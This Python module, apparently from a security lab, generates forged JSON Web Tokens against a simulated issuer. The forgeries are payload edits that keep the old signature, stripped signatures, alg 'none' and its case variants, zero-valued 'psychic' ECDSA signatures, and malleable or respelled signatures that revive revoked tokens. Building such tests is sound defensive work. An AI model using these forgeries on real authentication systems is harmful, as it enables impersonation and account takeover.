"""Forgeries of the signature: not checked, not there, of zeros, or spelled in another way."""

import json
from collections.abc import Iterator
from functools import partial

from authlab.attacks.forging import VICTIM, Scene
from authlab.attacks.issuer import ALGORITHMS, JWKS, TYP, write_token
from authlab.attacks.plain_ecdsa import N
from authlab.jose import b64url_decode, b64url_encode

__all__ = ["edit", "none", "none_case", "psychic", "respell", "strip", "twin"]

_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_ES256_KID = next(key["kid"] for key in JWKS["keys"] if key["alg"] == "ES256")


def edit(scene: Scene) -> Iterator[str]:
    """Change the payload of her own token, and leave the signature as it was."""
    for alg in ALGORITHMS:
        header, payload, signature = scene.get_token(alg=alg).split(".")
        claims = json.loads(b64url_decode(payload)) | {"sub": VICTIM}
        scene.say(f"writes {VICTIM} into sub, and keeps the signature")
        yield f"{header}.{b64url_encode(json.dumps(claims).encode())}.{signature}"


def strip(scene: Scene) -> Iterator[str]:
    """Cut the signature off; the header still names its algorithm."""
    for alg in ALGORITHMS:
        header = scene.get_token(alg=alg).split(".")[0]
        payload = b64url_encode(json.dumps(scene.claims()).encode())
        scene.say("cuts the signature off; the dot stays")
        yield f"{header}.{payload}."


def none(scene: Scene) -> Iterator[str]:
    """Name the algorithm none, which needs no signature (RFC 7515, appendix A.5)."""
    scene.say("writes a token that says it has no signature", '"alg":"none"')
    yield write_token({"alg": "none", "typ": TYP}, scene.claims())


def none_case(scene: Scene) -> Iterator[str]:
    """Spell none in other cases, past a list of what is forbidden."""
    for alg in ("None", "NONE", "nOnE"):
        scene.say("spells none in another way", f'"alg":"{alg}"')
        yield write_token({"alg": alg, "typ": TYP}, scene.claims())


def psychic(scene: Scene) -> Iterator[str]:
    """Sign with zeros: r = s = 0, and the same two numbers one turn further on, n."""
    header = {"alg": "ES256", "typ": TYP, "kid": _ES256_KID}
    for number, name in ((0, "0"), (N, "n")):
        scene.say(f"signs by no key at all: r = s = {name}")
        yield write_token(header, scene.claims(), partial(_stamp, number.to_bytes(32, "big") * 2))


def _stamp(signature: bytes, data: bytes) -> bytes:
    return signature


def twin(scene: Scene) -> Iterator[str]:
    """Make the other signature of an ended ES256 token: (r, n - s) fits whenever (r, s) does."""
    token = scene.get_token(VICTIM, alg="ES256")
    scene.revoke(token)
    head, _, text = token.rpartition(".")
    signature = b64url_decode(text)
    s = int.from_bytes(signature[32:], "big")
    scene.say("computes the second signature, without a key: (r, n - s)")
    yield f"{head}.{b64url_encode(signature[:32] + (N - s).to_bytes(32, 'big'))}"


def respell(scene: Scene) -> Iterator[str]:
    """Spell an ended token in another way: padding, unused bits, a character to skip."""
    token = scene.get_token(VICTIM)
    scene.revoke(token)
    head, _, text = token.rpartition(".")
    # 256 bytes leave four bits over in the last letter: change the lowest of them.
    last = text[:-1] + _ALPHABET[_ALPHABET.index(text[-1]) ^ 1]
    scene.say("pads the signature", f"{text[-6:]}==")
    yield f"{head}.{text}=="
    scene.say("changes the bits of the last letter that spell nothing", last[-6:])
    yield f"{head}.{last}"
    scene.say("adds a character that many decoders skip", f"{text[-6:]}!")
    yield f"{head}.{text}!"
